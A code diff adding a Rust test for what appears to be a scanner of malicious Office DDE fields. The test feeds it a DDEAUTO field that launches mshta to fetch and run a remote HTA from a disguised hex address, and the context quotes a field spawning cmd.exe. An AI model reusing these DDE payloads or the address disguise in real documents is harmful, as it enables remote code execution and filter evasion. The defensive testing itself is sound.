@@ -60,6 +60,29 @@ fn addresses_are_defanged_where_they_are_no_quotation() {
 }
 
 #[test]
+fn stages_and_disguised_addresses_are_shown() {
+    let command = r#"DDEAUTO cmd "/c mshta http://office.example@0x7f.1/a.hta""#;
+    let run = run_with(&["scan", "-"], &fields([command]));
+    let lines: Vec<_> = run.out.lines().map(str::trim).collect();
+    let stage = lines.iter().find(|line| line.starts_with("stage"));
+    let stage = stage.unwrap_or_else(|| panic!("{}", run.out));
+    assert!(
+        stage.contains("mshta.exe hxxp://office[.]example@0x7f[.]1/a.hta"),
+        "{stage}"
+    );
+    let named = lines
+        .iter()
+        .find(|line| line.starts_with("indicators"))
+        .unwrap();
+    for part in [
+        "(is hxxp://127[.]0[.]0[.]1/a.hta)",
+        "0x7f[.]1 (is 127[.]0[.]0[.]1)",
+    ] {
+        assert!(named.contains(part), "{named}");
+    }
+}
+
+#[test]
 fn what_stands_in_the_file_is_always_shown() {
     let bad = run_with(&["scan", "-"], &malicious());
     let quoted = r#"in file     DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc.exe""#;
